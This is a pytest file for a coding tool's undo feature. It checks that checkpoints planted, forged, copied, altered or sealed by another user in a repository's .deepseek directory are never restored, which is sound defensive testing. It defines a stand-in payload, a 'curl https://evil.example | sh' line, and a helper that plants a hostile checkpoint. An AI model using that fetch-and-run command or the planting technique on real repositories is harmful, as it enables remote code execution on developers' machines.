"""A repository can ship a `.deepseek/` directory. A checkpoint in it is what undo writes
back into the person's files, so only checkpoints this user's deepseek-ls sealed are ever
restored (`store/seal.py`): a planted, copied, foreign or altered one changes nothing."""

from __future__ import annotations

import json
import os
import shutil
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from deepseek_ls.patch.checkpoint import CheckpointStore
from deepseek_ls.store import seal

ORIGINAL = 'print("hello")\n'
EVIL = 'import os; os.system("curl https://evil.example | sh")\n'
PLANTED_ID = "29990101T000000-000000000-abcd"


def plant(state: Path, manifest_extra: dict | None = None, cid: str = PLANTED_ID) -> Path:
    """What a hostile repository commits: a checkpoint that 'restores' app.py to EVIL."""
    target = state / "checkpoints" / cid
    (target / "files").mkdir(parents=True)
    (target / "after").mkdir()
    (target / "files" / "app.py").write_text(EVIL)
    (target / "after" / "app.py").write_text(ORIGINAL)  # what the clone holds: the undo applies cleanly
    manifest = {"checkpoint_id": cid, "created": 1.0, "label": "apply", "restored": False, "meta": {},
                "files": [{"path": "app.py", "existed": True}], "after": {"app.py": True}}
    manifest.update(manifest_extra or {})
    (target / "manifest.json").write_text(json.dumps(manifest))
    return target


@pytest.fixture
def user_config(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = tmp_path / "user" / "config.toml"
    monkeypatch.setenv("DEEPSEEK_LS_USER_CONFIG", str(path))
    return path


def test_never_clobber_apply_undo_in_a_cloned_repository_ignores_its_checkpoints(tmp_path: Path) -> None:
    upstream = tmp_path / "upstream"
    upstream.mkdir()
    (upstream / "app.py").write_text(ORIGINAL)
    plant(upstream / ".deepseek")
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@example.com", "-c", "commit.gpgsign=false"]
    subprocess.run([*git, "init", "-q"], cwd=upstream, check=True)
    subprocess.run([*git, "add", "-A"], cwd=upstream, check=True)
    subprocess.run([*git, "commit", "-qm", "hostile"], cwd=upstream, check=True)
    clone = tmp_path / "clone"
    subprocess.run(["git", "clone", "-q", str(upstream), str(clone)], check=True)
    assert (clone / ".deepseek" / "checkpoints" / PLANTED_ID / "manifest.json").is_file()
    env = {k: v for k, v in os.environ.items() if not k.startswith("DEEPSEEK")}
    env["DEEPSEEK_LS_USER_CONFIG"] = str(tmp_path / "user" / "config.toml")
    env["HOME"] = str(tmp_path / "home")
    done = subprocess.run([sys.executable, "-m", "deepseek_ls", "apply", "--undo"], cwd=clone, env=env,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "nothing to undo" in done.stderr
    assert (clone / "app.py").read_text() == ORIGINAL


@pytest.mark.parametrize(
    "extra",
    [
        pytest.param({}, id="no-seal"),
        pytest.param({"seal": "0" * 64}, id="forged-seal"),
        pytest.param({"seal": None}, id="null-seal"),
    ],
)
def test_never_clobber_an_unsealed_checkpoint_is_not_ours(tmp_path: Path, user_config: Path, extra: dict) -> None:
    (tmp_path / "ws").mkdir()
    (tmp_path / "ws" / "app.py").write_text(ORIGINAL)
    store = CheckpointStore(tmp_path / "ws", tmp_path / "ws" / ".deepseek")
    plant(tmp_path / "ws" / ".deepseek", extra)
    assert store.latest_unrestored() is None and store.list() == []
    assert store.restore_latest() is None
    with pytest.raises(LookupError):
        store.plan_undo([PLANTED_ID], lambda rel: ORIGINAL)
    assert (tmp_path / "ws" / "app.py").read_text() == ORIGINAL


def _real_checkpoint(tmp_path: Path) -> tuple[CheckpointStore, str]:
    root = tmp_path / "ws"
    root.mkdir()
    (root / "app.py").write_text(ORIGINAL)
    store = CheckpointStore(root, root / ".deepseek")
    cid = store.create(["app.py"], label="apply")
    (root / "app.py").write_text(ORIGINAL + "x = 1\n")
    store.record_after(cid, ["app.py"])
    return store, cid


def test_our_own_checkpoint_still_undoes(tmp_path: Path, user_config: Path) -> None:
    store, cid = _real_checkpoint(tmp_path)
    assert store.latest_unrestored() == cid
    assert store.restore_latest() == (cid, ["app.py"], {})
    assert (tmp_path / "ws" / "app.py").read_text() == ORIGINAL
    key = seal.key_path()
    assert key.parent == user_config.parent and stat.S_IMODE(key.stat().st_mode) == 0o600


@pytest.mark.parametrize("which", ["files", "after"])
def test_never_clobber_a_stored_file_changed_after_the_checkpoint_refuses_the_undo(
    tmp_path: Path, user_config: Path, which: str
) -> None:
    store, cid = _real_checkpoint(tmp_path)
    stored = tmp_path / "ws" / ".deepseek" / "checkpoints" / cid / which / "app.py"
    stored.write_text(EVIL if which == "files" else ORIGINAL + "x = 1\n# altered\n")
    before = (tmp_path / "ws" / "app.py").read_text()
    with pytest.raises(Exception, match="changed after it was taken"):
        store.restore_latest()
    assert (tmp_path / "ws" / "app.py").read_text() == before


def test_never_clobber_a_sealed_manifest_moved_under_a_newer_name_is_ignored(tmp_path: Path, user_config: Path) -> None:
    store, cid = _real_checkpoint(tmp_path)
    shutil.copytree(store.dir / cid, store.dir / PLANTED_ID)
    assert store.latest_unrestored() == cid


def test_never_clobber_a_checkpoint_sealed_by_another_user_is_ignored(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DEEPSEEK_LS_USER_CONFIG", str(tmp_path / "someone-else" / "config.toml"))
    store, cid = _real_checkpoint(tmp_path)
    assert store.latest_unrestored() == cid
    monkeypatch.setenv("DEEPSEEK_LS_USER_CONFIG", str(tmp_path / "me" / "config.toml"))
    assert store.latest_unrestored() is None and store.restore_latest() is None
    assert (tmp_path / "ws" / "app.py").read_text() == ORIGINAL + "x = 1\n"
